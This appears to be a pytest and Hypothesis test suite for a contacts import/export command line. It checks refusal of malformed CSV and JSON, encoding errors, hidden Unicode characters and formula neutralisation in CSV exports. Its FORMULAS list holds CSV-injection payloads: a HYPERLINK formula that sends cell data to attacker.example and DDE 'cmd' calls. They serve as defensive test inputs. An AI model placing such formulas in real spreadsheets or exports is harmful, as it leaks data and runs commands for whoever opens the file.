"""Bad contacts files never crash, corrupt or silently mislead, through the real command line.

Each refused file names the physical line (and the field) that is wrong and stores nothing;
a CSV export never hands a spreadsheet a formula to run.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine, create_engine, delete, func, select
from sqlalchemy.orm import Session

from distributor.cli import main
from distributor.contacts.reading import JSON_CHUNK, MAX_JSON_DEPTH
from distributor.migrate import upgrade
from distributor.models import Contact, ContactBeat, MediaList, Outlet
from distributor.visible_text import check_visible


@dataclass(frozen=True)
class Run:
    status: int
    out: str
    err: str

    @property
    def said(self) -> str:
        return self.out + self.err


class Cli:
    """`distributor ...` run in this process against one database, and what it stored."""

    def __init__(self, url: str, folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
        self.folder = folder
        self.capsys = capsys
        self.engine: Engine = create_engine(url)

    def __call__(self, *args: str) -> Run:
        sys.argv = ["distributor", *args]
        try:
            main()
            status = 0
        except SystemExit as exit_:
            status = exit_.code if isinstance(exit_.code, int) else int(exit_.code is not None)
        out, err = self.capsys.readouterr()
        assert "Traceback" not in out + err, out + err
        return Run(status, out, err)

    def file(self, name: str, content: str | bytes) -> str:
        path = self.folder / name
        if isinstance(content, str):
            path.write_text(content, encoding="utf-8", newline="")
        else:
            path.write_bytes(content)
        return str(path)

    def names(self) -> dict[str, str]:
        """Every stored contact: address -> name."""
        with Session(self.engine) as session:
            rows = session.execute(select(Contact.email, Contact.name))
            return {email: name for email, name in rows}

    def count(self, model: type[Contact | MediaList] = Contact) -> int:
        with Session(self.engine) as session:
            return session.scalar(select(func.count()).select_from(model)) or 0

    def clear(self) -> None:
        with Session(self.engine) as session, session.begin():
            session.execute(delete(ContactBeat))
            session.execute(delete(Contact))
            session.execute(delete(Outlet))


def _cli(
    url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Iterator[Cli]:
    for name in ("DISTRIBUTOR_ACTOR", "DISTRIBUTOR_ROLE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("DISTRIBUTOR_DATABASE_URL", url)
    monkeypatch.setenv("DISTRIBUTOR_DATA_DIR", str(tmp_path / "var"))
    monkeypatch.setattr(sys, "argv", ["distributor"])
    runner = Cli(url, tmp_path, capsys)
    yield runner
    runner.engine.dispose()


@pytest.fixture
def cli(
    database_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> Iterator[Cli]:
    """On each kind of database: PostgreSQL enforces column widths, SQLite does not."""
    yield from _cli(database_url, tmp_path, monkeypatch, capsys)


@pytest.fixture
def sqlite_cli(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Iterator[Cli]:
    url = f"sqlite:///{tmp_path / 'contacts.sqlite3'}"
    upgrade(url)
    yield from _cli(url, tmp_path, monkeypatch, capsys)


def refused(run: Run, *messages: str) -> None:
    assert run.status != 0, run
    for message in messages:
        assert message in run.err, run.err


# --- CSV injection ---------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'=already quoted",
]


def test_a_csv_export_never_hands_a_spreadsheet_a_formula(sqlite_cli: Cli) -> None:
    # Given journalist-supplied names that a spreadsheet would run
    people = [{"email": f"p{i}@example.com", "name": n} for i, n in enumerate(FORMULAS)]
    assert (
        sqlite_cli("contacts", "import", sqlite_cli.file("in.json", json.dumps(people))).status == 0
    )
    # When they are exported as CSV
    assert sqlite_cli("contacts", "export", sqlite_cli.file("safe.csv", "")).status == 0
    safe = (sqlite_cli.folder / "safe.csv").read_text(encoding="utf-8")
    names = [row["name"] for row in csv.DictReader(io.StringIO(safe))]
    # Then no cell starts as a formula; each is the stored name behind a '
    assert names == ["'" + n for n in FORMULAS]
    for line in safe.splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    # And --raw writes them as stored
    raw = sqlite_cli("contacts", "export", "--raw", "-").out
    assert [row["name"] for row in csv.DictReader(io.StringIO(raw))] == FORMULAS
    # And importing either export gives back the names exactly
    sqlite_cli.clear()
    assert sqlite_cli("contacts", "import", str(sqlite_cli.folder / "safe.csv")).status == 0
    assert sorted(sqlite_cli.names().values()) == sorted(FORMULAS)
    assert sqlite_cli("contacts", "export", "--raw", "-").out == raw
    sqlite_cli.clear()
    raw_file = sqlite_cli.file("raw.csv", raw)
    assert sqlite_cli("contacts", "import", "--raw", raw_file).status == 0
    assert sqlite_cli("contacts", "export", "-").out == safe


def test_a_protecting_quote_is_removed_on_import_unless_raw(sqlite_cli: Cli) -> None:
    path = sqlite_cli.file("in.csv", "email,name\na@example.com,'=1+2\nb@example.com,'Tis me\n")
    sqlite_cli("contacts", "import", path)
    assert sqlite_cli.names() == {"a@example.com": "=1+2", "b@example.com": "'Tis me"}
    sqlite_cli("contacts", "import", "--raw", path)
    assert sqlite_cli.names()["a@example.com"] == "'=1+2"


# --- CSV rows are read exactly ---------------------------------------------------------------


def test_an_unterminated_quote_is_refused_naming_its_line(sqlite_cli: Cli) -> None:
    text = (
        'email,name\nz@example.com,Zed\na@example.com,"Ann\nb@example.com,Bob\nc@example.com,Cat\n'
    )
    path = sqlite_cli.file("quote.csv", text)
    refused(
        sqlite_cli("contacts", "import", path),
        "line 3: a quote opened in this row is never closed, so lines 3-5 would be one field",
    )
    assert sqlite_cli.count() == 0
    # With --skip-invalid the row before it is imported, and the quote still reported
    run = sqlite_cli("contacts", "import", "--skip-invalid", path)
    assert run.status == 0
    assert "skipped line 3: a quote opened in this row is never closed" in run.err
    assert sqlite_cli.names() == {"z@example.com": "Zed"}


@pytest.mark.parametrize(
    ("row", "message"),
    [
        (
            "a@example.com,Ann",
            "line 3: fewer fields than the header has columns (2, not 3); a field that holds ','",
        ),
        ("a@example.com,Ann,Times,x", "line 3: more fields than the header has columns (4, not 3)"),
        (
            'a@example.com,"Ann" Archer,Times',
            "line 3: cannot read this row: text follows a closing quote",
        ),
    ],
)
def test_a_row_of_the_wrong_shape_is_refused(sqlite_cli: Cli, row: str, message: str) -> None:
    text = f"email,name,outlet\nz@example.com,Zed,Post\n{row}\ny@example.com,Yan,Post\n"
    path = sqlite_cli.file("shape.csv", text)
    refused(sqlite_cli("contacts", "import", path), message)
    assert sqlite_cli.count() == 0
    run = sqlite_cli("contacts", "import", "--skip-invalid", path)
    assert (run.status, sqlite_cli.names()) == (0, {"z@example.com": "Zed", "y@example.com": "Yan"})


@pytest.mark.parametrize(
    ("delimiter", "named"), [(";", "semicolons"), ("\t", "tabs"), (",", "commas")]
)
def test_the_separator_is_detected_and_reported(
    sqlite_cli: Cli, delimiter: str, named: str
) -> None:
    text = f"email{delimiter}name{delimiter}outlet\n"
    text += f'x@example.com{delimiter}"Xavier, Jr."{delimiter}Le Monde\n'
    run = sqlite_cli("contacts", "import", sqlite_cli.file("sep.csv", text))
    assert run.status == 0, run
    assert f"fields separated by {named} (detected from the header)" in run.out
    assert sqlite_cli.names() == {"x@example.com": "Xavier, Jr."}


def test_a_semicolon_file_read_with_commas_is_refused_even_with_skip_invalid(
    sqlite_cli: Cli,
) -> None:
    path = sqlite_cli.file("semi.csv", "email;name\nx@example.com;X\n")
    run = sqlite_cli("contacts", "import", "--delimiter", ";", path)
    assert "separated by semicolons (given with --delimiter)" in run.out
    sqlite_cli.clear()
    for args in ([], ["--skip-invalid"]):
        run = sqlite_cli("contacts", "import", "--delimiter", "comma", *args, path)
        refused(run, "line 1: missing column(s) email, name", "--delimiter")
        assert sqlite_cli.count() == 0
    refused(sqlite_cli("contacts", "import", "--delimiter", "ab", path), "cannot separate fields")


def test_a_sep_line_names_the_separator_and_lines_count_from_it(sqlite_cli: Cli) -> None:
    path = sqlite_cli.file("excel.csv", "sep=;\r\nemail;name\r\nbroken;B\r\n")
    refused(sqlite_cli("contacts", "import", path), "line 3: 'broken' is not a valid address")


def test_skip_invalid_with_no_valid_row_fails_and_stores_nothing(sqlite_cli: Cli) -> None:
    path = sqlite_cli.file("bad.csv", "email,name\nbroken,B\n,C\n")
    run = sqlite_cli("contacts", "import", "--skip-invalid", path)
    refused(run, "no row of the file can be imported", "line 2:", "line 3:")
    assert sqlite_cli.count() == 0
    # A file with a header and no rows is not a failure: it has nothing wrong
    run = sqlite_cli(
        "contacts", "import", "--skip-invalid", sqlite_cli.file("e.csv", "email,name\n")
    )
    assert (run.status, run.err) == (0, "")


# --- encodings -------------------------------------------------------------------------------


def test_bytes_that_are_not_utf8_are_refused_by_line_and_field(sqlite_cli: Cli) -> None:
    content = "email,name\r\na@example.com,Ann\r\nz@example.com,Zoë\r\n".encode("latin-1")
    path = sqlite_cli.file("latin1.csv", content)
    refused(
        sqlite_cli("contacts", "import", path),
        "line 3: cannot read the name: the byte 0xEB at character 3 is not UTF-8",
    )
    assert sqlite_cli.count() == 0
    run = sqlite_cli("contacts", "import", "--skip-invalid", path)
    assert (run.status, sqlite_cli.names()) == (0, {"a@example.com": "Ann"})
    lines = b'{"email": "b@example.com"}\n{"email": "c@example.com", "name": "Zo\xeb"}\n'
    refused(
        sqlite_cli("contacts", "import", sqlite_cli.file("latin1.jsonl", lines)),
        "line 2: cannot read this line: the byte 0xEB at character 39 is not UTF-8",
    )


def test_a_column_name_hiding_a_character_is_refused(sqlite_cli: Cli) -> None:
    # A file saved twice with a byte order mark keeps the second one in its first column name.
    content = "\ufeffemail,name\na@example.com,Ann\n".encode("utf-8-sig")
    refused(
        sqlite_cli("contacts", "import", sqlite_cli.file("twice.csv", content)),
        "line 1: the column name '\\ufeffemail' contains invisible",
        "U+FEFF ZERO WIDTH NO-BREAK SPACE",
    )


def test_a_utf8_bom_is_accepted_and_utf16_is_refused_by_name(sqlite_cli: Cli) -> None:
    text = "email;name\nzoe@example.com;Zoë\n"
    run = sqlite_cli("contacts", "import", sqlite_cli.file("bom.csv", text.encode("utf-8-sig")))
    assert run.status == 0 and sqlite_cli.names() == {"zoe@example.com": "Zoë"}
    sqlite_cli.clear()
    refused(
        sqlite_cli("contacts", "import", sqlite_cli.file("u16.csv", text.encode("utf-16"))),
        "saved as UTF-16",
    )
    assert sqlite_cli.count() == 0


# --- JSON ------------------------------------------------------------------------------------


def test_a_broken_json_line_is_named_and_the_lines_after_it_are_kept(sqlite_cli: Cli) -> None:
    lines = (
        '{"email": "l1@example.com"}\r\n'
        '{"email": "l2@example.com"\r\n'
        '{"email": "l3@example.com"}\r\n'
    )
    path = sqlite_cli.file("broken.jsonl", lines)
    run = sqlite_cli("contacts", "import", path)
    refused(run, "line 2: cannot read this line: Expecting ',' delimiter at the end of the line")
    assert "line 3" not in run.err
    assert sqlite_cli.count() == 0
    run = sqlite_cli("contacts", "import", "--skip-invalid", path)
    assert run.status == 0
    assert "skipped line 2: cannot read this line" in run.err
    assert set(sqlite_cli.names()) == {"l1@example.com", "l3@example.com"}


def test_a_key_given_twice_in_a_json_object_is_refused(sqlite_cli: Cli) -> None:
    array = (
        '[\n  {"email": "a@example.com", "name": "Ann"},\n'
        '  {"email": "b@example.com",\n   "name": "Bob", "name": "Robert"}\n]\n'
    )
    refused(
        sqlite_cli("contacts", "import", sqlite_cli.file("dup.json", array)),
        "line 3: the key 'name' appears twice in one object",
    )
    assert sqlite_cli.count() == 0


@pytest.mark.parametrize(
    ("name", "content", "line"),
    [
        ("deep.json", "[" * 100_000, 1),
        ("deep.jsonl", '{"email": "a@example.com"}\n' + "[" * 100_000 + "\n", 2),
        ("deep.jsonl", "{}\n" + '{"email": "a@example.com", "x": ' + "[" * 50 + "]" * 50 + "}", 2),
        (
            "nested.json",
            '[{"email": "a@example.com", "attributes": '
            + '{"a": ' * MAX_JSON_DEPTH
            + "1"
            + "}" * MAX_JSON_DEPTH
            + "}]",
            1,
        ),
    ],
)
def test_deeply_nested_json_is_refused_with_a_clear_error(
    sqlite_cli: Cli, name: str, content: str, line: int
) -> None:
    run = sqlite_cli("contacts", "import", sqlite_cli.file(name, content))
    refused(run, f"line {line}: ", f"nested more than {MAX_JSON_DEPTH} levels deep")
    assert "RecursionError" not in run.said
    assert sqlite_cli.count() == 0


def test_lines_of_a_json_array_are_counted_across_chunks_and_crlf_endings(sqlite_cli: Cli) -> None:
    # Given an array with CRLF line endings, one of which is split by the reader's chunks
    lines = ["["]
    while sum(len(x) + 2 for x in lines) < JSON_CHUNK * 2:
        lines.append(f'  {{"email": "p{len(lines)}@example.com", "name": "P"}},')
    text = "\r\n".join(lines)
    # Pad one name so that a \r is the last character of the first chunk after line 1.
    target = len(lines[0]) + 2 + JSON_CHUNK - 1
    index = next(i for i in range(1, len(lines)) if len("\r\n".join(lines[: i + 1])) > target) - 1
    before = len("\r\n".join(lines[:index])) + 2
    grow = target - (before + len(lines[index]))
    assert 0 <= grow < 150
    lines[index] = lines[index].replace('"P"', '"P' + "p" * grow + '"')
    lines.append('  {"email": "broken", "name": "Last"}')
    text = "\r\n".join([*lines, "]", ""])
    assert text[len(lines[0]) + 2 + JSON_CHUNK - 1] == "\r"
    run = sqlite_cli("contacts", "import", sqlite_cli.file("crlf.json", text))
    # Then the bad contact is named by its physical line
    refused(run, f"line {len(lines)}: 'broken' is not a valid address")


# --- lengths and hidden characters -----------------------------------------------------------


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("name", "N" * 201, "the name is 201 characters long; keep it to 200"),
        ("outlet", "O" * 201, "the outlet is 201 characters long; keep it to 200"),
        ("outlet", "ß" * 150, "the outlet is 300 characters long once letter case is folded"),
        ("role", "R" * 201, "the role is 201 characters long; keep it to 200"),
        ("region", "R" * 101, "the region is 101 characters long; keep it to 100"),
        ("beats", "b" * 101, "the beat is 101 characters long; keep it to 100"),
        ("source", "S" * 201, "the source is 201 characters long; keep it to 200"),
        ("language", "en" + "-abcdefgh" * 4, "the language tag is 38 characters long"),
        ("time_zone", "Europe/" + "A" * 60, f"the time_zone 'Europe/{'A' * 60}' is not an IANA"),
    ],
)
def test_a_value_wider_than_its_column_is_refused_before_the_database(
    cli: Cli, column: str, value: str, message: str
) -> None:
    row = {"email": "a@example.com", "name": "Ann", column: value}
    path = cli.file("long.jsonl", '{"email": "z@example.com"}\n' + json.dumps(row) + "\n")
    refused(cli("contacts", "import", path), f"line 2: {message}")
    assert cli.count() == 0


def test_values_as_wide_as_their_columns_are_stored_whole(cli: Cli) -> None:
    row = {
        "email": "a@example.com",
        "name": "N" * 200,
        "outlet": "Ö" * 200,
        "region": "R" * 100,
        "beats": ["b" * 100],
        "language": "en-abcdefgh-abcdefgh-abcdefgh-abcde",
    }
    assert len(row["language"]) == 35
    assert cli("contacts", "import", cli.file("wide.json", json.dumps([row]))).status == 0
    assert cli.names() == {"a@example.com": "N" * 200}


@pytest.mark.parametrize(
    ("column", "value", "shown"),
    [
        ("name", "Ann \u202eevil", "U+202E RIGHT-TO-LEFT OVERRIDE at character 5"),
        ("name", "Ann\u200bArcher", "U+200B ZERO WIDTH SPACE at character 4"),
        ("outlet", "The \u2066Times", "U+2066 LEFT-TO-RIGHT ISOLATE at character 5"),
        ("outlet", "Daily\u00adExample", "U+00AD SOFT HYPHEN at character 6"),
    ],
)
def test_names_and_outlets_with_hidden_characters_are_refused(
    cli: Cli, column: str, value: str, shown: str
) -> None:
    row = {"name": "Ann", "outlet": "Post", column: value}
    text = (
        f"email,name,outlet\nz@example.com,Zed,Post\na@example.com,{row['name']},{row['outlet']}\n"
    )
    refused(
        cli("contacts", "import", cli.file("hidden.csv", text)), f"line 3: the {column} ", shown
    )
    assert cli.count() == 0


def test_joiners_inside_words_and_emoji_are_kept(sqlite_cli: Cli) -> None:
    # Zero-width joiners belong to Persian words and emoji sequences.
    names = {
        "a@example.com": "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
        "b@example.com": "Ann \U0001f469\u200d\U0001f4bb",
    }
    text = "email,name\n" + "".join(f"{e},{n}\n" for e, n in names.items())
    assert sqlite_cli("contacts", "import", sqlite_cli.file("ok.csv", text)).status == 0
    assert sqlite_cli.names() == names


def test_list_names_that_are_too_long_or_hide_characters_are_refused(cli: Cli) -> None:
    refused(
        cli("lists", "create", "x" * 5000), "the list name is 5000 characters long; keep it to 200"
    )
    refused(cli("lists", "create", "Crime \u202edesk"), "the list name contains", "U+202E")
    assert cli.count(MediaList) == 0
    assert cli("lists", "create", "L" * 200).status == 0
    assert cli.count(MediaList) == 1


# --- property: random files never crash, and a refused file stores nothing ------------------

GOOD_CELLS = ["Ann", "Zoë Ångström", "李雷", "=1+2", "'=1+2", "@SUM(A1)", "-3", "x,y;z", ""]
BAD_CELLS = ['say "hi', "\u202eevil", "a\u200bb", "N" * 201, "\x00", "\ud800"]
# Good addresses get the row's number, so that only a bad file repeats one.
GOOD_EMAILS = ["ann{}@example.com", "Bob{}@Example.org", "zoë{}@bücher.example", "=cat{}@x.org"]
BAD_EMAILS = ["broken", "", "a@", "ann0@example.com"]
EXTRA_COLUMNS = ["outlet", "beats", "role", "notes"]


@st.composite
def cells(draw: st.DrawFn, column: str, delimiter: str, bad: bool, row: int) -> str:
    value = draw(st.sampled_from(GOOD_CELLS))
    if column == "email":
        value = draw(st.sampled_from(GOOD_EMAILS)).format(row)
    if bad and draw(st.integers(0, 3)) == 0:
        value = draw(st.sampled_from(BAD_EMAILS if column == "email" else BAD_CELLS))
    if draw(st.integers(0, 3)) == 0 or delimiter in value or '"' in value or "'" in value:
        value = '"' + value.replace('"', '""') + '"'
    return value


@st.composite
def csv_files(draw: st.DrawFn) -> tuple[str, str]:
    """CSV of some separator, mostly sound; when `bad`, with bad cells, rows and endings."""
    bad = draw(st.booleans())
    delimiter = draw(st.sampled_from([",", ";", "\t", "|"] if bad else [",", ";", "\t"]))
    extra = draw(st.lists(st.sampled_from(EXTRA_COLUMNS), max_size=2, unique=not bad))
    columns = draw(st.permutations(["email", "name", *extra]))
    lines = [delimiter.join(columns)]
    if draw(st.integers(0, 5)) == 0:
        lines.insert(0, f"sep={delimiter}")
    for number in range(draw(st.integers(0, 6))):
        width = len(columns) + (draw(st.sampled_from([0, 0, -1, 1])) if bad else 0)
        row = [draw(cells(columns[i % len(columns)], delimiter, bad, number)) for i in range(width)]
        lines.append(delimiter.join(row))
    ending = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    tail = draw(st.sampled_from(["", ending, '"', ending + '"x'] if bad else ["", ending]))
    return ending.join(lines) + tail, delimiter


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.sampled_from(GOOD_CELLS + BAD_CELLS),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.sampled_from(["name", "outlet", "x"]), inner, max_size=3)
    ),
    max_leaves=8,
)


@st.composite
def json_files(draw: st.DrawFn) -> str:
    """A JSON array or JSON Lines, mostly sound; when `bad`, with bad values and nesting."""
    bad = draw(st.booleans())
    records: list[dict[str, object]] = []
    for number in range(draw(st.integers(0, 5))):
        record: dict[str, object] = {"email": draw(st.sampled_from(GOOD_EMAILS)).format(number)}
        record["name"] = draw(st.sampled_from(GOOD_CELLS))
        if bad:
            keys = st.sampled_from(["email", "name", "beats", "attributes"])
            record.update(draw(st.dictionaries(keys, JSON_VALUES, max_size=2)))
        records.append(record)
    if draw(st.booleans()):
        text = "\n".join(json.dumps(r, ensure_ascii=draw(st.booleans())) for r in records)
    else:
        text = json.dumps(records, indent=draw(st.sampled_from([None, 1])))
    if not bad:
        return text
    depth = draw(st.sampled_from([0, MAX_JSON_DEPTH, 5_000]))
    if depth:
        deep = '{"email": "deep@example.com", "x": ' + "[" * depth + "]" * depth + "}"
        if text.startswith("["):
            text = "[" + deep + ("," if records else "") + text[1:]
        else:
            text += "\n" + deep
    if draw(st.booleans()):
        cut = draw(st.integers(0, len(text)))
        mark = draw(st.sampled_from(["", "]", ",", "{", '"', "\\ud800", "NaN", '"name": 1, ']))
        text = text[:cut] + mark + text[cut:]
    return text


@st.composite
def contact_files(draw: st.DrawFn) -> tuple[str, bytes, list[str]]:
    """A file name, its bytes, and the options to import it with."""
    options: list[str] = []
    if draw(st.booleans()):
        text, delimiter = draw(csv_files())
        name = "contacts.csv"
        if draw(st.integers(0, 3)) == 0:
            options += ["--delimiter", draw(st.sampled_from([delimiter, ",", "tab"]))]
        if draw(st.integers(0, 4)) == 0:
            options.append("--raw")
    else:
        text, name = draw(json_files()), draw(st.sampled_from(["contacts.json", "contacts.jsonl"]))
    encoding = draw(st.sampled_from(["utf-8"] * 4 + ["utf-8-sig", "latin-1", "utf-16"]))
    content = text.encode(encoding, errors="replace" if encoding == "latin-1" else "surrogatepass")
    if draw(st.integers(0, 9)) == 0:
        at = draw(st.integers(0, len(content)))
        content = content[:at] + draw(st.sampled_from([b"\xff", b"\xc3", b"\x00"])) + content[at:]
    if draw(st.booleans()):
        options.append("--skip-invalid")
    return name, content, options


@settings(
    max_examples=50,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(case=contact_files())
@example(case=("contacts.csv", b'email;name\nann@example.com;"Ann\n', ["--skip-invalid"]))
@example(case=("contacts.json", b"[" * 3000, []))
def test_random_files_never_crash_and_a_refused_one_stores_nothing(
    sqlite_cli: Cli, case: tuple[str, bytes, list[str]]
) -> None:
    name, content, options = case
    path = sqlite_cli.file(name, content)
    try:
        run = sqlite_cli("contacts", "import", *options, path)
        assert run.status in (0, 1, 2), run
        event(f"exit status {run.status}")
        if run.status != 0:
            assert run.err.startswith("error: "), run
            assert sqlite_cli.count() == 0
            return
        counts = re.search(r"imported (\d+) new and updated (\d+) contact", run.out)
        assert counts is not None, run
        assert sqlite_cli.count() == int(counts.group(1)) + int(counts.group(2))
        if "--skip-invalid" not in options:
            assert "skipped" not in run.err
        for stored in sqlite_cli.names().values():
            check_visible(stored, field="name")
        physical = max(1, len(io.BytesIO(content).read().splitlines()))
        for line in re.findall(r"^skipped line (\d+):", run.err, re.MULTILINE):
            assert 1 <= int(line) <= physical + 1, (line, physical)
    finally:
        sqlite_cli.clear()
